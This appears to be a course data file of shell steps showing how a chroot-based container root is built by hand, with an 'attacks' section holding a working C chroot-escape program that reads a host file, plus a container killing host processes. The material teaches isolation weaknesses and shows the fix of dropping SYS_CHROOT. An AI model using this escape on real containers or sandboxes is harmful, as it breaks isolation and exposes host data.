/** Chapter 1 by hand: a root directory made of copied files, what it hides and what it does not; and the way out of it. */

import type { Step } from '../../course/by-hand-type.ts'

export const byHand: readonly Step[] = [
  {
    name: 'empty-root',
    why: 'An empty directory as the root: there is nothing in it, so there is no shell to start.',
    command: `mkdir -p /tmp/by-hand
cd /tmp/by-hand
mkdir newroot
chroot newroot /bin/sh`,
    shows: 'chroot: failed to run command …/bin/sh…: No such file or directory\n',
  },
  {
    name: 'copy-the-shell',
    why: 'A shell is put where it is looked for, and the very same message comes again.',
    command: `mkdir newroot/bin
cp /bin/sh newroot/bin
ls newroot/bin
chroot newroot /bin/sh`,
    shows: 'sh\nchroot: failed to run command …/bin/sh…: No such file or directory\n',
  },
  {
    name: 'which-libraries',
    why: 'The file that is missing is another one: the shell is not in one piece.',
    command: 'ldd /bin/sh',
    shows: '…\n…libc.so.6 => …/libc.so.6 (0x…)\n…/ld-linux…\n',
  },
  {
    name: 'copy-the-libraries',
    why: 'A program is copied with all that it needs, each file to the place where it is looked for.',
    command: `add() {
  for file in $(command -v "$1") $(ldd "$(command -v "$1")" | grep -o '/[^ ]*'); do
    cp --parents "$file" newroot
  done
}
add sh
chroot newroot sh -c 'pwd; cd ..; pwd; echo /*'`,
    shows: '/\n/\n/bin /lib …/usr\n',
  },
  {
    name: 'more-programs',
    why: 'Three programs more; all in all this is a very small image.',
    command: `for program in ls cat hostname; do add "$program"; done
find newroot -type f | sort
du -sh newroot`,
    shows: '…\nnewroot/usr/bin/cat\n…\nnewroot/usr/bin/ls\n…\n…M\tnewroot\n',
  },
  {
    name: 'look-around',
    why: 'Your files are gone, as far as paths lead.',
    command: `chroot newroot ls /
chroot newroot cat /etc/passwd`,
    shows: 'bin\nlib\n…\nusr\ncat: /etc/passwd: No such file or directory\n',
  },
  {
    name: 'all-processes',
    why: 'But only files have changed. /proc is where the kernel shows all processes as files, and it shows them here too.',
    command: `sleep 1000 > /dev/null &
victim=$!
mkdir newroot/proc
mount -t proc proc newroot/proc
sleep 1
chroot newroot cat "/proc/$victim/comm"`,
    shows: 'sleep\n',
  },
  {
    name: 'kill',
    why: 'What can be seen can be killed: this ends a process outside. 143 means that it was asked to end.',
    command: `chroot newroot sh -c "kill $victim"
wait "$victim"
echo $?`,
    shows: '143\n',
  },
  {
    name: 'name-and-network',
    why: 'The name of the machine is the same, and so are its network interfaces.',
    command: `hostname
chroot newroot hostname
chroot newroot cat /proc/net/dev`,
    shows: 'sandbox\nsandbox\n…\n…lo: …\n…\n',
  },
  {
    name: 'clean-up',
    why: 'What was mounted is unmounted before the directory goes: rm would not stop at it.',
    command: `umount newroot/proc
rm -r newroot
cd - > /dev/null`,
    shows: '',
  },
]

export const attacks: readonly Step[] = [
  {
    name: 'write-the-escape',
    why: 'A secret outside, and a program of a few lines that will go and look for it.',
    command: `echo 'only the host has this file' > /tmp/secret
cat > /tmp/escape.c <<'end'
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  mkdir("/jail", 0755);
  chroot("/jail");               // our root goes down, our working directory stays: it is outside now
  for (int i = 0; i < 64; i++)
    chdir("..");                 // '..' ends at our root, and that is not on the way up any more
  chroot(".");                   // what we reached is the root of the machine: now it is ours
  execvp(argv[1], argv + 1);
  return 1;
}
end
gcc -static -Wno-unused-result -o /tmp/escape /tmp/escape.c`,
    shows: '',
  },
  {
    name: 'escape-from-1',
    why: 'The program goes into a container of the engine of chapter 1 through its standard input, and out of it again.',
    command: `npm run chapter 1 -- run --rm -i busybox \\
  sh -c 'cat > /escape; chmod +x /escape; cat /tmp/secret; /escape cat /tmp/secret' < /tmp/escape`,
    shows: "cat: can't open '/tmp/secret': No such file or directory\nonly the host has this file\n",
  },
  {
    name: 'escape-from-2',
    why: 'The engine of chapter 2: the same program, and it arrives at the top of its own root.',
    command: `npm run chapter 2 -- run --rm -i busybox \\
  sh -c 'cat > /escape; chmod +x /escape; /escape cat /tmp/secret' < /tmp/escape`,
    shows: "cat: can't open '/tmp/secret': No such file or directory\n",
  },
  {
    name: 'no-right-to',
    why: 'Without the capability for it, even root may not call chroot: the climb ends at the root of the image.',
    command: `npm run chapter 1 -- run --rm -i --cap-drop SYS_CHROOT busybox \\
  sh -c 'cat > /escape; chmod +x /escape; /escape cat /tmp/secret' < /tmp/escape`,
    shows: "cat: can't open '/tmp/secret': No such file or directory\n",
  },
  {
    name: 'kill-from-1',
    why: 'No way out is needed to do harm: all processes of the machine are in reach.',
    command: `sleep 1000 > /dev/null &
npm run chapter 1 -- run --rm busybox kill $!
wait $!
echo $?`,
    shows: '143\n',
  },
]
